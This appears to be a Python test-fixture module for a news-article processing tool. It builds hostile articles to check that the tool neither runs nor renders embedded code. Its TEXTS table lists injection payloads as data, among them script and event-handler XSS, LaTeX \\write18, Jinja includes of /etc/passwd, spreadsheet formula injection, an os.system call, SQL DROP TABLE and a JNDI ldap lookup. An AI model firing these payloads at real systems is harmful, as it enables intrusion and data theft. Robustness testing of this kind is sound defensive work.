"""What a hostile article says: code of every kind, and one piece of text over and over."""

from __future__ import annotations

import json
from collections.abc import Callable

TALKS = "Japan held talks with the Taliban in Tokyo on Tuesday, the Foreign Ministry said."
AID = "Officials said that aid for Afghanistan would go on, and Motegi called it a success."
GOOD = f"Japan and Taliban discuss aid\n\n{TALKS} {AID}\n\n{AID} {TALKS}\n"
READ, SKIPPED, REFUSED = "read", "skipped", "refused"
NEVER = "/tmp/pressbrief-was-here"  # what code in an article would make
Files = dict[str, str | bytes]


def said(text: str) -> Callable[[int], Files]:
    """An article that says a text in its headline and body, and an export that has it as names."""
    body = f"{text} in Tokyo\n\n{TALKS} {text} {AID}\n\n“{text},” Motegi said. {TALKS}\n"
    row = {"title": text, "author": f"Lee {text}", "publisher": text, "url": text, "text": body}
    return lambda size: {"a.txt": body, "b.jsonl": json.dumps(row)}


def shape(unit: str) -> Callable[[int], Files]:
    """An article with one piece of text over and over."""
    return lambda size: {"a.txt": f"{GOOD}\n{unit * (size // len(unit.encode()))}\n\n{TALKS}"}


def varied(size: int) -> Files:
    """An article as long as a book, in which no sentence stands twice: each is read."""
    said = "Japan’s envoy {} told the Taliban on {} May that plan {} for Kabul was a mistake. "
    return {"a.txt": f"{GOOD}\n{''.join(said.format(n, n % 31, n) for n in range(size // 80))}"}


# What an article may say, whatever it is meant to be somewhere.
TEXTS = {
    "a script element": "<script>alert(1)</script>",
    "an image with a handler": '"><img src=x onerror=alert(2)>',
    "an SVG with a handler": "<svg onload=alert(3)>",
    "a javascript: link": "<a href='javascript:alert(4)'>here</a>",
    "an iframe of a local file": "<iframe src='file:///etc/passwd'></iframe>",
    "a style from outside": "<style>@import url(http://192.0.2.1/x.css)</style>",
    "a meta refresh": '<meta http-equiv="refresh" content="0;url=http://192.0.2.1">',
    "the end of a style and a comment": "]]></style></title><!-- --> &amp; &#x3c;",
    "a Markdown image": "![i](http://192.0.2.1/x.png) [l](javascript:alert(5))",
    "a Markdown fence and heading": "```\n# Findings\n```\n---\n| a | b |",
    "Typst code": '#panic("x") #set page(width: 1pt) $x^2$ *b* _i_ `c` @ref <label> // c',
    "a Typst file and package": '#read("/etc/passwd") #import "@preview/x:0.1.0": *',
    "LaTeX": r"\input{/etc/passwd} $\frac{1}{2}$ \write18{id} \end{document}",
    "Jinja": "{{ 7 * 7 }} {% include '/etc/passwd' %} {# c #}",
    "papermill's braces": "{topic} {0} {{as_of}} {x!r:>{y}}",
    "printf's signs": "%s %n %d %(name)s $HOME ${HOME} `id`",
    "a spreadsheet's formula": "=cmd|' /C calc'!A0",
    "a formula after a sign": '+HYPERLINK("http://192.0.2.1","x")',
    "a formula after a tab": "\t@SUM(1+1)*cmd|'/C calc'!A0",
    "a notebook's magics": f"%run /etc/passwd\n!touch {NEVER}\n%%bash\nid",
    "Python": f"__import__('os').system('touch {NEVER}')",
    "SQL": "'; DROP TABLE articles; --",
    "a JNDI address": "${jndi:ldap://192.0.2.1/a}",
    "ANSI escapes": "\x1b[2J\x1b[31mred\x1b]0;title\x07\x1b]8;;http://192.0.2.1\x1b\\x",
    "bidirectional marks": "abc \u202etxt.exe\u202c \u2066x\u2069 \u200f",
    "characters that are none": "\ufffe \uffff \ue000 \ufeff \u0085 \u2028",
    "a letter under a thousand marks": "a" + "\u0301" * 1000,
    "a family of emoji": "👩‍👩‍👧‍👦 🏴‍☠️ 😀" * 20,
    "other scripts": "中文新闻 العربية עברית ไทย 日本語",
    "letters that look like others": "J\u0430p\u0430n and the \u03a4\u0430lib\u0430n",
    "one word without end": "w" * 10_000,
    "an address without end": "https://example.org/" + "a-very-long-path/" * 600,
    "markers of the tables": "a; b; c, unknown, nan, None, NULL, N/A, inf, -0",
    "the marks of a doctest": ">>> import os\n... os.remove('x')",
    "a diff and a merge": "<<<<<<< HEAD\n=======\n>>>>>>> x",
    "the year nought and others": "On 0 May 0000, 31 February 2025, 99999-99-99 and 5 May 99999",
    "every kind of day at once": "from Monday 32 June -5 BC until 24:61 on 13/13/13, in year 0,",
}

# What takes long where work grows by the square of a text, a line, a paragraph or a sentence.
SHAPES = {
    "one paragraph": f"{TALKS} {AID} ",
    "one sentence of names": "Anna Berg, Kofi Mensah, Li Na, ",
    "one sentence of days": "5 May 2024, on Tuesday last week, ",
    "one sentence of reports": "Japan said that ",
    "one sentence of sources": "according to Japan, ",
    "one sentence of relatives": "who said he said ",
    "one sentence of ands": "Japan and China and ",
    "one sentence of ofs": "the minister of Japan of ",
    "one sentence of numbers": "at least 1,234 people killed, ",
    "dated sentences": "On 5 May 2024 Japan attacked Kabul. ",
    "short sentences": "He left. ",
    "one letter": "a",
    "digits": "1",
    "spaces": " ",
    "tabs": "x\t",
    "line ends": "\n",
    "short lines": "x\n\n",
    "straight quotes": '"',
    "opened quotes": "“Aid ",
    "opened straight quotes": '"Aid ',
    "apostrophes": "'aid ",
    "turned quotes": "»Aid ",
    "quotations": "“We will,” he said. ",
    "brackets": "(",
    "dashes": "- ",
    "full stops": "a. ",
    "initials": "A.",
    "at signs": "@",
    "addresses": "a@b.",
    "links": "https://www.example.org/a ",
    "a list in its line": "1. Talks in Tokyo 2. Aid ",
    "a transcript": "Q: Will Japan go?\n\nMotegi: We will.\n\n",
    "hashes": "# ",
    "mojibake": "â€œTokyoâ€ ",
    "credits": "Reporting by A; editing by B; writing by C; ",
    "a copyright": "© (c) 2025 - ",
}


def fixed(name: str, data: str | bytes) -> Callable[[int], Files]:
    return lambda size: {name: data}


def page(inside: str, size: int = 0, unit: str = "x", head: str = "") -> Files:
    """A page with its article, and a unit over and over before it."""
    many = unit * (size // len(unit))
    text = f"<article><h1>Aid</h1><p>{TALKS} {AID}</p><p>{AID} {TALKS} {AID}</p></article>"
    return {"a.html": f"<!doctype html><html><head>{head}</head><body>{many}{inside}{text}</body>"}
